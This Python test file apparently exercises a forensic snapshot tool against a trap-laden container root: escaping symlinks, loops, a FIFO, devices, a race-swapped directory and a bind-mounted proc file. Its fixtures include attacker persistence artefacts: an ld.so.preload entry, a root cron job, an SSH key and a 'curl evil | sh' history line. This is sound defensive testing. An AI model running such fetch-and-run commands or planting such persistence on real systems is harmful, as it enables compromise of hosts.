#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A container root full of traps: links that lead out of it, loops, a pipe that somebody waits at, devices, sockets, a
directory that is swapped for a link all the time, a file of proc that is mounted elsewhere. Nothing outside of the root
is read, and nothing is opened that is no regular file, or that the kernel makes up when it is read. What changed in it is listed, and what tells most of it is kept."""
import hashlib
import os
import secrets
import socket
import stat
import subprocess
import threading
import time

import odd
import own_root
import snapshot
from checks import equal, finish, holds
from own_root import into, write

KEPT = {"/tmp/note": b"dropped here\n", "/dev/.hidden": b"no device\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
        "/root/.ssh/authorized_keys": b"ssh-x\n", "/root/.bash_history": b"curl evil | sh\n", "/var/log/amazon/ssm/agent.log": b"session\n",
        "/etc/cron.d/job": b"* * * * * root /tmp/x\n", "/tmp/sh\\ort \xff\n name": b"odd name\n",
        "/tmp/large": b"0123456789abcdef" * 40000}
LISTED = {"/srv/app": b"#!/bin/sh\n", "/tmp/key.pem": b"-----BEGIN RSA PRIVATE KEY-----\nbm9uZQ==\n"}


def fill(root, secret):
    """The program with its libraries, the files that are to be found, and the traps."""
    own_root.fill(root, odd.PROGRAM, "/srv/odd")
    for path, data in {**KEPT, **LISTED}.items():
        write(os.fsencode(root) + path.encode("latin-1"), data)
    os.symlink("/srv/app", root + "/tmp/good")
    os.symlink("../../../../../../../../srv/../srv/./app", root + "/tmp/good-up")
    os.symlink(secret, root + "/tmp/absolute")
    os.symlink("../" * 40 + secret[1:], root + "/tmp/dots")
    os.symlink("/proc/1/root" + secret, root + "/tmp/magic")
    os.symlink("loop-b", root + "/tmp/loop-a")
    os.symlink("loop-a", root + "/tmp/loop-b")
    for n in range(50):
        os.symlink(f"chain-{n + 1}", f"{root}/tmp/chain-{n}")
    os.symlink("note", root + "/tmp/chain-50")
    os.mkfifo(root + "/tmp/pipe")
    os.mknod(root + "/tmp/device", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(root + "/tmp/sock")
    os.mkdir(root + "/tmp/flip")
    write(root + "/tmp/flip/secret", b"harmless")
    os.symlink("/proc/1/root" + os.path.dirname(secret), root + "/tmp/flop")


def start(root, *arguments):
    return subprocess.Popen(["odd", *arguments], executable="/srv/odd", preexec_fn=lambda: into(root),
                            env={b"ODD_PROCESS_WAITS": b"1"}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL)


def swap(root, stop):
    """The directory is a link, and a directory again, as fast as it goes."""
    while not stop.is_set():
        for pair in ((b"flip", b"away"), (b"flop", b"flip"), (b"flip", b"flop"), (b"away", b"flip")):
            os.rename(*(os.path.join(root.encode(), b"tmp", name) for name in pair))


def made_up(folder):
    """A descriptor to a file of proc, without the right to read it, that a mount gives the name of a deleted file."""
    path = os.path.join(folder, "log (deleted)")
    write(path, b"")
    subprocess.run(["mount", "--bind", "/proc/version", path], check=True)
    return os.open(path, os.O_PATH)


def main():
    odd.inside_namespaces()
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/tmp"], check=True)
    folder = odd.folder()
    root, secret = folder.name + "/root", folder.name + "/host/secret"
    marker = b"of the host alone: " + secrets.token_hex(16).encode()
    write(secret, marker)
    os.mkdir(root)
    fill(root, secret)

    traps = start(root, "/tmp/absolute", "dots", "/tmp/magic", "/tmp/loop-a")
    more = start(root, "/tmp/pipe", "/tmp/device", "/tmp/chain-0", "/tmp/flip/secret")
    good = start(root, "good-up", "/tmp/good", "-x", "/tmp")
    for process in (traps, more, good):
        process.stdout.readline()
    woken, stop = threading.Event(), threading.Event()

    def wait_at_the_pipe():
        os.close(os.open(root + "/tmp/pipe", os.O_WRONLY))
        woken.set()

    threading.Thread(target=wait_at_the_pipe, daemon=True).start()
    threading.Thread(target=swap, args=(root, stop), daemon=True).start()
    time.sleep(0.3)
    # These alone: the root of the test itself holds the directory too, and the host's file.
    pids = ",".join(str(process.pid) for process in (traps, more, good))
    bundle = snapshot.collect(folder.name + "/out", "--pid", pids)
    stop.set()
    holds("nobody opened the pipe", not woken.is_set())
    os.close(os.open(root + "/tmp/pipe", os.O_RDONLY | os.O_NONBLOCK))
    holds("(whoever opens it is noticed)", woken.wait(5))

    equal("nothing of the host's file is in the bundle", [], [name for name, data in bundle.members.items()
                                                               if marker in data])
    contents = {}
    for process in (traps, more, good):
        contents.update(bundle.contents(process.pid))
    of_regular = [capture for capture in contents.values() if capture.facts and "sha256" in capture.facts]
    holds("only regular files were read", all(stat.S_ISREG(capture.facts["mode"]) for capture in of_regular))
    hashed = {snapshot.exact(capture.facts, "path"): capture for capture in of_regular}
    arguments = [path for path in hashed if path in (b"/tmp/good-up", b"/tmp/good")]
    equal("a script named by way of links in the root: once, resolved below the root", [LISTED["/srv/app"]],
          [bundle.object(hashed[path]) for path in arguments])
    for path, data in KEPT.items():
        capture = hashed.get(path.encode("latin-1"))
        if holds(f"kept: {path!r}", capture is not None, sorted(hashed)):
            most = data[:256 << 10]
            equal(f"kept: {path!r}: its bytes", ("complete" if most == data else "truncated", most),
                  (capture.outcome, bundle.object(capture)))
    key = hashed.get(b"/tmp/key.pem")
    equal("a private key: its hash alone", ("private key", hashlib.sha256(LISTED["/tmp/key.pem"]).hexdigest(), None),
          (key.facts.get("withheld"), key.facts["sha256"], bundle.object(key)))

    lists = [record for record in bundle.records("file") if "drift" in record["proc"]]
    of_root = [record for record in lists if record["process"]["pid"] == traps.pid]
    listed = {snapshot.exact(record["file"], "path"): record["file"] for record in of_root if "file" in record}
    swapped = {b"/tmp/" + name for name in (b"flip", b"flop", b"away")}  # a listing may meet one name twice
    paths = [snapshot.exact(record["file"], "path") for record in of_root if "file" in record]
    paths = [path for path in paths if path not in swapped and not path.startswith((b"/tmp/flip/", b"/tmp/away/"))]
    equal("the list has each file once", len(set(paths)), len(paths))
    for path, kind in (("/tmp/pipe", "fifo"), ("/tmp/device", "char"), ("/tmp/sock", "socket"), ("/tmp", "dir"),
                       ("/tmp/magic", "symlink"), ("/srv/app", "file"), ("/tmp/sh\\ort \xff\n name", "file")):
        equal(f"listed: {path!r}", kind, listed.get(path.encode("latin-1"), {}).get("type"))
    equal("nothing of /proc is listed", [], [path for path in listed if path.startswith(b"/proc/")])
    ends = [record["proc"]["drift"] for record in of_root if "file" not in record]
    holds("the list tells of its walk", len(ends) == 1 and ends[0]["walked"] >= len(listed), ends)
    none = snapshot.collect(folder.name + "/none", "--files", "none", "--pid", pids)
    equal("--files none: no list", [], none.records("file"))
    deleted = made_up(folder.name)
    content = snapshot.collect(folder.name + "/own", "--files", "none", "--pid", os.getpid()).contents(os.getpid())
    equal("a file of proc under the name of a deleted one is not opened", ("absent", 0, False),
          (content[f"fd/{deleted}"].outcome, content[f"fd/{deleted}"].length, "sha256" in content[f"fd/{deleted}"].facts))
    os.close(deleted)
    subprocess.run(["umount", os.path.join(folder.name, "log (deleted)")], check=True)
    for process in (traps, more, good):
        process.kill()
    finish()


main()
